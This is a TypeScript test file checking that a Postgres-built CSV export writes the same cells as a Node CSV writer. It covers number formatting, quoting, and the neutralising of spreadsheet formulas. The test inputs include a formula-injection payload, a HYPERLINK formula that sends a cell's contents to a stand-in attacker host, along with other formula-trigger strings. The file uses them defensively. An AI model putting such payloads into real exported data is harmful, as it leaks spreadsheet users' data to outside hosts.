import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createTestDatabase, type TestDatabase } from '@cti/db/testing';
import { booleanCell, csvRecord, numberCell, textCell } from './csv.ts';
import {
  sqlBooleanCell,
  sqlCsvLines,
  sqlListCell,
  sqlNumberCell,
  sqlNumberWritable,
  sqlTextCell,
} from './csv-sql.ts';

// The CSV export's lines are written by Postgres (csv-sql.ts): every cell must be byte for byte what
// csv.ts writes in Node — numbers as JavaScript prints them, formulas neutralised, quoting only where
// RFC 4180 needs it — whatever the value.

let db: TestDatabase;
before(async () => {
  db = await createTestDatabase({ max: 2 });
});
after(() => db?.drop());

/** Doubles spread over every exponent, with few and many digits, and both signs. */
function doubles(): number[] {
  const out = [
    1,
    -1,
    0.1,
    0.5,
    1e-4,
    9.999e-5,
    1e-5,
    1.5e-5,
    1e-6,
    1.2345e-6,
    9.99e-7,
    1e-7,
    1.2345678e-7,
    5e-324,
    2.2250738585072014e-308,
    1e15,
    1.5e15,
    999999999999999.9,
    1234567890123456.8,
    1e16,
    1.2345e20,
    1e21,
    1.5e21,
    1e22,
    1.7976931348623157e308,
    80.5,
    6.2,
    0.8732,
    -79.38,
    43.65,
    0.1 + 0.2,
    1 / 3,
    2 ** 53,
    2 ** 53 + 2,
    123456789012345680000,
  ];
  const bytes = new DataView(new ArrayBuffer(8));
  let seed = 12345;
  const random = () => {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    return seed / 2 ** 31;
  };
  for (let i = 0; i < 3000; i++) {
    // Any bit pattern (subnormals, huge, tiny), then values with a few decimals near each power of ten.
    for (let b = 0; b < 8; b++) bytes.setUint8(b, Math.floor(random() * 256));
    const any = bytes.getFloat64(0);
    if (Number.isFinite(any)) out.push(any);
    const decimals = Math.round(random() * 1e4) / 10 ** Math.floor(random() * 8);
    out.push(decimals * 10 ** Math.floor(random() * 44 - 22));
    // And many in the range Postgres writes: full-precision doubles and short decimals, 1e-4 to 1e15.
    out.push(
      random() * 10 ** (random() * 19 - 4),
      Math.round(random() * 1e6) / 10 ** Math.floor(random() * 10),
    );
  }
  return [...out, ...out.map((x) => -x)];
}

describe('csv-sql: Postgres writes the cells csv.ts writes', () => {
  test('numbers: String(x) wherever sqlNumberWritable says so — every double from 1e-4 to 1e15, 0 for -0', async () => {
    const values = doubles();
    const sql = db.sql;
    const rows = await sql<{ i: number; writable: boolean; cell: string | null }[]>`
      SELECT i::int AS i, ${sqlNumberWritable(sql, sql`x`)} AS writable,
             CASE WHEN ${sqlNumberWritable(sql, sql`x`)} THEN ${sqlNumberCell(sql, sql`x`)} END AS cell
        FROM unnest(${values.map(String)}::float8[]) WITH ORDINALITY AS v(x, i)`;
    assert.equal(rows.length, values.length);
    const value = (r: { i: number }) => values[r.i - 1]!;
    const inRange = (x: number) => x === 0 || (Math.abs(x) >= 1e-4 && Math.abs(x) < 1e15);
    const wrong = rows.filter((r) => r.writable && r.cell !== numberCell(value(r)));
    assert.deepEqual(
      wrong.slice(0, 5).map((r) => ({ value: value(r), sql: r.cell, js: numberCell(value(r)) })),
      [],
    );
    assert.deepEqual(
      rows.filter((r) => r.writable !== inRange(value(r))).map(value),
      [],
      'writable: exactly zero and 1e-4 ≤ |x| < 1e15',
    );
    assert.ok(rows.filter((r) => r.writable).length > 6000, 'most samples are in the range');
    const special = await sql<{ writable: boolean; cell: string | null }[]>`
      SELECT ${sqlNumberWritable(sql, sql`x`)} AS writable, ${sqlNumberCell(sql, sql`x`)} AS cell
        FROM unnest(${['-0', null, 'NaN', 'Infinity', '-Infinity']}::float8[]) WITH ORDINALITY AS v(x, i) ORDER BY i`;
    assert.deepEqual(
      special.map((r) => (r.writable ? r.cell : 'not writable')),
      ['0', null, 'not writable', 'not writable', 'not writable'],
    );
  });

  test('lines: the same bytes as csv.ts; quotes, CR/LF, commas in a cell and odd numbers come as the row', async () => {
    const texts = [
      'plain',
      '',
      null,
      'Ferme Érable, "Nord"',
      '=HYPERLINK("http://evil.example/?d="&A1,"click")',
      '+41 7',
      '-12',
      '@SUM(A1)',
      '\tlabel',
      '\rx',
      'Barn 2\r\nwest side',
      'a\nb',
      '"',
      ',',
      'Ünïcødé 牛 "7"',
      '\\.',
      "'quoted'",
      ' =not at start',
      'semi;colon',
    ];
    const numbers = [null, -0.5714285714285714, 80.5, 0, 1.5e-5, 1e15, 7.208e22];
    // Every text beside each kind of number, with a boolean (or none) and a list holding the text.
    const cases = texts.flatMap((t, i) =>
      numbers.map((n, j) => ({ t, n, b: (i + j) % 3 === 0 ? null : (i + j) % 2 === 0 })),
    );
    const sql = db.sql;
    const rows = sql`
      SELECT * FROM unnest(${cases.map((c) => c.t)}::text[], ${cases.map((c) => (c.n === null ? null : String(c.n)))}::float8[],
                           ${cases.map((c) => (c.b === null ? null : String(c.b)))}::text[])
                    WITH ORDINALITY AS v(t, n, b, i)
       ORDER BY i DESC`;
    const out = await sql<{ line: string | null; row: string | null }[]>`${sqlCsvLines(sql, rows, {
      cells: [
        sqlTextCell(sql, sql`r.t`),
        sqlNumberCell(sql, sql`r.n`),
        sqlListCell(sql, sql`ARRAY[r.t, 'x']`),
        sqlBooleanCell(sql, sql`r.b::boolean`),
        sqlTextCell(sql, sql`r.i::text`),
      ],
      writable: sqlNumberWritable(sql, sql`r.n`),
    })}`;
    type Case = { t: string | null; n: number | null; b: string | boolean | null; i: number };
    const js = (c: Case) =>
      csvRecord([
        textCell(c.t),
        numberCell(c.n),
        textCell([c.t, 'x'].join(';')),
        booleanCell(c.b === null ? null : c.b === true || c.b === 'true'),
        textCell(String(c.i)),
      ]);
    const expected = cases.map((c, k) => js({ ...c, i: k + 1 })).reverse();
    assert.deepEqual(
      out.map((r) => (r.line === null ? js(JSON.parse(r.row!)) : `${r.line}\r\n`)),
      expected,
    );
    // What came as a written line and what as a row: quoting and odd numbers are left to csv.ts.
    const needsQuotes = (t: string | null) => t !== null && /[",\r\n]/.test(t);
    const odd = (n: number | null) => n !== null && n !== 0 && !(Math.abs(n) >= 1e-4 && Math.abs(n) < 1e15);
    assert.deepEqual(
      out.map((r) => r.line === null),
      cases.map((c) => needsQuotes(c.t) || odd(c.n)).reverse(),
    );
    const listed = await sql<{ cell: string | null }[]>`
      SELECT ${sqlListCell(sql, sql`l`)} AS cell
        FROM (VALUES (ARRAY['too_dark', 'ribeye_cut_off']), (ARRAY[]::text[]), (ARRAY['=x', 'a,b']),
                     (ARRAY['a', NULL, 'b']), (NULL::text[])) v(l)`;
    assert.deepEqual(
      listed.map((r) => r.cell),
      [textCell('too_dark;ribeye_cut_off'), '', "'=x;a,b", 'a;;b', null],
    );
  });
});
